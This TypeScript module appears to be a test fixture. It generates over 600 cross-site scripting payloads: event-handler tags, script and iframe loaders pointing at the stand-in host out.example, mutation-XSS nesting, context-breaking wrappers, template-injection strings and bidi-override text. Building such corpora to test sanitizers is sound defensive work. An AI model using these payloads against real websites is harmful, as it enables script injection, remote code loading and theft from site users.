/** Calls that a browser would make if a payload ever ran. */
const CALL = 'hit()';
const OUT = 'https://out.example/p';

const EVENTS = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbegin'];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'iframe srcdoc=x',
  'video src=x',
  'marquee',
];
const LOADERS = [
  `<script>${CALL}</script>`,
  `<script src="${OUT}.js"></script>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<a href="javascript:${CALL}">見る</a>`,
  `<form action="${OUT}"><button>送る</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<link rel="stylesheet" href="${OUT}.css">`,
  `<style>@import "${OUT}.css"; * { background: url(${OUT}) }</style>`,
  `<base href="${OUT}/">`,
  `<img src="${OUT}.png">`,
  `<object data="${OUT}"></object>`,
  `<embed src="${OUT}">`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${CALL}></style></mglyph></math>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
];
/** What may stand before and after a payload to break out of where it is put. */
const WRAPS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title></textarea></style></script>${payload}`,
  (payload) => `--></bdi></blockquote>${payload}<!--`,
  (payload) => `\u202e${payload}\u2066`,
  (payload) => payload.replaceAll('<', '<\u0000'),
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];
const LOOSE = [
  `javascript:${CALL}`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `https://out.example/login 今すぐ確認`,
  'www.out.example',
  '@out.example #タグ',
  '＜script＞hit()＜/script＞',
  '\u0000\u0008\u001b[31m赤\u001b[0m',
  '\ud83d\ude00\ud83d',
  '\u202e}{moc.live//:sptth\u202c',
];

/** 600 and a few payloads, each different. */
export const PAYLOADS: readonly string[] = [
  ...WRAPS.flatMap((wrap) =>
    TAGS.flatMap((tag) => EVENTS.map((event) => wrap(`<${tag} ${event}=${CALL}>${tag === 'svg' ? '</svg>' : ''}`))),
  ),
  ...WRAPS.flatMap((wrap) => LOADERS.map(wrap)),
  ...LOOSE,
];
